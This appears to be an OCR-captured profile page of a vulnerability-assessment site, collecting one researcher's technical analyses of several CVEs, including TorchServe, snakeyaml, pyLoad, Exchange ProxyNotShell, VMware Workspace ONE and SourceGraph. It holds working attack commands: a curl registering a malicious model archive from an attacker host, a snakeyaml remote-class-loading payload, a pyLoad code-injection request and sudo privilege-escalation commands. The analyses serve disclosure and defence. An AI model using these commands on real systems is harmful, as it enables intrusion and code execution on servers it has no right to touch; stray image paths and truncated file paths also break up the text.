zeroSteiner (315)

Last Login: December 01, 2023
4th Place

zeroSteiner's Latest (20) Contributions

Sort by:
Filter by:
Technical Analysis

TorchServer allows models to be registered from any HTTP server thatthe server can access. A remote, unauthenticated attacker can leverage this to register arbitrary model archives with the server using the register-a-model API.

This API can be invoked using cURL:

curl --location --request POST 'http://localhost:8081/models?url=http%3A%2F%2Fattackerip%3A8000%2Fmalicious.mar'

If the registration is successful, the model will need to be unregistered before it can be registered again.

This API can be invoked using cURL as well:

curl --location --request DELETE'http://localhost:8081/models/malicious/1.0'

TorchServer version 0.8.1 and previous are vulnerable. This vulnerability was patched in 0.8.2. A remote user can invoke the api-description endpoint to determine the target version.

[smcintyre@localhost ~]$ curl --location --request OPTIONS 'http://localhost:8081' | jq '.info'
  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current
                                 Dload  Upload   Total   Spent    Left  Speed
100 58576  100 58576    0     0  16.8M      0 --:--:-- --:--:-- --:--:-- 18.6M
  "title": "TorchServe APIs",
  "description": "TorchServe is a flexible and easy to use tool for serving deep learning models",
  "version": "0.8.1"

Exploitation With CVE-2022-1471

This vulnerability is notably more valuable when combined with CVE-2022-1471. In this case, the model archive (MAR file, .mar) can contain a YAML configuration file that is capable of triggering remote code execution through a vulnerable version of the snakeyaml library. An attacker would construct the MAR file (which is a structured ZIP file) with a MAR-INFO/MANIFEST.json that references a configuration file through the model.configFile key. In the case of TorchServer 0.8.1, the ScriptEngineManager gadget chain is effective. The ScriptEngineManager has the advantage over other LDAP-based chains due to being HTTP-based. This means the TorchServer only needs to have access to one service from which it can retrieve the MAR file as well as the Java payload classes as opposed to requiring access to both an HTTP and LDAP service.

The serialized config filewould look like the following where $payload_url is the URL to where the Java class files are stored.

!!javax.script.ScriptEngineManager [!! [[!! ["$payload_url"]]]]

When using this chain it is also necessary to host a services/javax.script.ScriptEngineFactory file which contains the name of the payload class to load. When using this gadget chain, the payload class must implement javax.script.ScriptEngineFactory. See SnakeYaml Deserilization exploited (2019) for more information.

The ResourceGadget, C3P0WrapperConnPool and BadAttributeValueExpException gadget chains do not work against TorchServer 0.8.1, making the ScriptEngineManager chain the only HTTP-based one to work from this comment in snakeyaml’s issue tracker.

  • Attacker Value
  • Exploitability
Technical Analysis

snakeyaml contains a vulnerability whereby an attacker that has control over YAML data that is deserialized by an affected version can execute arbitrary Java code. There are multiple, gadget chains that have been published for exploiting this vulnerability. In practice, this vulnerability is most valuable for exploitation purposes when chained with another vulnerability that allows for it to be triggered remotely such asCVE-2023-43654.

This vulnerability is moderately difficult to weaponize due to a couple of factors. First, in most scenarios, the attacker will need to understand the context in which snakeyaml is used within the host application. This will involve figuring out a means by which to get the target application to deserialize YAML data controlled by the attacker through some kind of API call, for example. Secondly, while multiple gadget chains are publicly available for, the exploit developer will still need to do some trial and error to find a chain that works within the target application. Once a chain has been identified, the target application will require access to communicate with an attacker-controlled server from which to load the Java class data. In the public chains, this server would either be HTTP(S) or LDAP.

Code execution will occur in the context of the host application where the snakeyaml library is used. This means the payload will execute with the same privileges as the host application, which will be different on a case-by-case basis.

This vulnerability was fixed in version 2.0. See the issue on bitbucket for more information.

Technical Analysis

The SolarWinds Information Service (SWIS) is vulnerable to RCE by way of a crafted message received through the AMQP message queue. A malicious user that can authenticate to the AMQP service can publish such a crafted message whose body is a serialized .NET object which can lead to OS command execution as NT AUTHORITY\SYSTEM.

In order to authenticate to the AMQP service, a user would need to already have admin access to add a RabbitMQ user, or have recovered the credentials to the orion account that SolarWinds sets up automatically. Forthat reason, I’ve marked this as “Authenticated” and “Requires elevated access” because the orion account is not any ordinary user.

  • Attacker Value
  • Exploitability
    Very High
Technical Analysis


pyLoad versions prior to 0.5.0b3.dev31 are vulnerable to Python code injection due to the pyimport functionality exposed through the js2py library. An unauthenticated attacker can issue a crafted POST request to the flash/addcrypted2 endpoint to leverage this for code execution. pyLoad by default runs two services, the primary of which is on port 8000 and can not be used by external hosts. A secondary “Click ‘N’ Load” service runson port 9666 and can be used remotely without authentication.

The vulnerability was patched in commit 7d73ba79 by disabling the pyimport statement within the js2py execution environment.

From the original disclosure, the vulnerability can be validated with curl:

curl -i -s -k -X $'POST' \
    --data-binary $'jk=pyimport%20os;os.system(\"touch%20/tmp/pwnd\");f=function%20f2(){};&package=xxx&crypted=AAAA&&passwords=aaaa' \

Vulnerable instances will respond with a 500 error and a message that the decryption failed.Content-Type: text/html; charset=utf-8
Content-Length: 21
Access-Control-Max-Age: 1800
Access-Control-Allow-Origin: *
Access-Control-Allow-Methods: OPTIONS, GET, POST
Vary: Accept-Encoding
Date: Thu, 16 Feb 2023 17:02:16 GMT
Server: Cheroot/8.6.0

Could not decrypt key

Patched instances (v0.5.0) will also respond with a 500 error but the body of the response will include a stack trace in HTML with the following error:

              <p><b>Error 500: SyntaxError: Line 1: Unexpected token pyimport</b></p>
              <p><b>Traceback (most recent calllast):</b></p>
              <p><b>  File "/usr/lib/python3.10/site-packages/flask/;, line 1820, in full_dispatch_request</b></p>
              <p><b>    rv = self.dispatch_request()</b></p>
Technical Analysis

This is an alternative method for bypassing Exchange Emergency Mitigation Service (EEMS) protections for the ProxyNotShell exploit chain. When this CVE is combined with CVE-2022-41082, they yield code execution as NT AUTHORITY\SYSTEM.

Installing the original patches from Microsoft that were released in November fix this exploit chain as well. The technique is arguably redundant when EEMS can be bypassed using various encoding techniques. This alternative vector is likely most valuable when used to avoid generating exploitation following the original pattern.

Technical AnalysisCVE-2022-41082, also known as ProxyNotShell is an authenticated RCE in Microsoft Exchange. ProxyNotShell actually combines CVE-2022-41082 and CVE-2022-41040 for the whole attack chain. This CVE specifically however is the RCE component. The vulnerability is a deserialization flaw in Microsoft Exchange’s PSRP backend. The PSRP backend can be accessed by an authenticated attacker leveraging the SSRF flaw identified asCVE-2022-41040. The deserialization gadget was documented by ZDI in their blog. While this vulnerability affected Exchange Server 2013 and Exchange Server 2016, the gadget chain only worked with Exchange Server 2019 (version 15.2+). A new gadget chain could potentially be developed to exploit these older versions.

GTSC originally announced on September 28th that they had seen a new (at the time) 0-day attack against their customers using Microsoft Exchange. On November 8th, Microsoft released patches for the two vulnerabilities. Between September 28th and November, no public exploits combined the SSRF with the RCE. Private threat actors however were attempting to exploit the vulnerability which led Microsoft to issue Exchange Emergency Mitigation Service (EEMS) mitigations. These mitigations took the form of IIS rewrite rules which were able to be bypassed using encoding techniques. The last issued EEMS mitigation was able to be successfully bypassed by using IBM037v1 encoding, which can be demonstrated using the Metasploit module.

Successful code execution results in OS commands running as NT AUTHORITY\SYSTEM. The exploit is reliable to exploit and pretty quick (compared to ProxyShell which needed to gather a lot of information).Technical Analysis

The VMware Workspace ONE Access, Identity Manager, and vRealize Automation products contain a locally exploitable vulnerability whereby the under-privileged horizon user can escalate their permissions to those of the root user. Notably, the horizon user runs the externally accessible web application. This means that remote code execution (RCE) within that component could be chained with this vulnerability to obtain remote code execution as the root user.

The vulnerability is due to the fact that the /usr/local/horizon/scripts/getProtectedLogFiles.hzn script can be run with root privileges without a password using the sudo command. This script in turn will recursively change the ownership of a user-supplied directory to the horizon user, effectively granting them write permissions to all contents.

To demonstrate and exploit this vulnerability, the following command is executed as the horizon user:

sudo /usr/local/horizon/scripts/getProtectedLogFiles.hzn exportProtectedLogs /usr/local/horizon/scripts/

At this point, the horizon user has write access (through ownership) to a variety of scripts that they also have the right to invoke using sudo without a password. These scripts can be verified by executing sudo -n --list. A careful attacker would have backed up the ownership information for each file in the directory they intend to target, and restored them once they had obtained root-level permissions.

The root cause of this vulnerability is that the exportProtectedLogs subcommand invokes the getProtectedLogs function which will change the ownership information to the TOMCAT_USER which happens to be horizon.

Excerpt from getProtectedLogFiles.hzn:function getProtectedLogs()
    rm -f $TARGET_DIR_LOCATION/messages*
    rm -f $TARGET_DIR_LOCATION/boot*
    rm -rf $TARGET_DIR_LOCATION/journal*



See the original disclosure for more information.

Technical Analysis

The VMware Workspace ONE Access, Identity Manager, and vRealize Automation products contain a locally exploitable vulnerability whereby the under-privileged horizon user can escalate their permissions to those of the root user. Notably, the horizon user runs the externally accessible web application. This means that remote code execution (RCE) within that component could be chained with this vulnerability to obtain remote code execution as the root user.

The vulnerability is due to the fact that the permissions on the file /opt/vmware/certproxy/bin/ are such that the horizon user is both the owner and has access to invoke this file.

To demonstrate and exploit this vulnerability, that file is overwritten, and then the following command is executed as the horizon user:

sudo /usr/local/horizon/scripts/ restart

Note, that depending on the patch level of the system, the script may be located at an alternative path and require a slightly different command:

sudo /opt/vmware/certproxy/bin/ restart

In both cases, the horizon user is able to invoke the script from sudo without a password. This can be verified by executing sudo -n --list. The script invokes the systemctl command to restart the service based on its configuration file. The service configuration file, located at /run/systemd/generator.late/vmware-certproxy.service, dispatches to /etc/rc.d/init.d/vmware-certproxy through the ExecStart and ExecStop directives, which in turn executes /opt/vmware/certproxy/bin/

The horizon user should not be the owner of or have write access to any executable files that run asroot.

See the original disclosure for more information. This vulnerability has a public exploit in the form of a Metasploit module.

  • Attacker Value
  • Exploitability
    Very High
Technical Analysis

A vulnerability exists in the gitserver component of SourceGraph that allows remote and unauthenticated attackers that can access the service to configure git’s core.sshCommand value which can then be triggered on demand by forcing a push operation. In order to be exploitable, the SourceGraph instance must have at least one cloned repository present. Cloning a repository is the first post-installation step that a Source Graph administrator is prompted to take. Once one or more repositories are cloned, a remote and unauthenticated attacker can enumerate them using curl http://$target:3178/list?cloned=true. Successful exploitation results in code execution in the context of the gitserver user.

While a server with no cloned repositories is not exploitable, the vulnerability can still be checked by analyzing the response to a filtered command. The vulnerability can be checked for using the following curl command where $target is the target server. This command fetches the current core.sshCommand value and does not change it.curl -X POST http://$target:3178/exec -d '{"Repo": "repo", "Args": ["config", "--default", "", "core.sshCommand"]}'

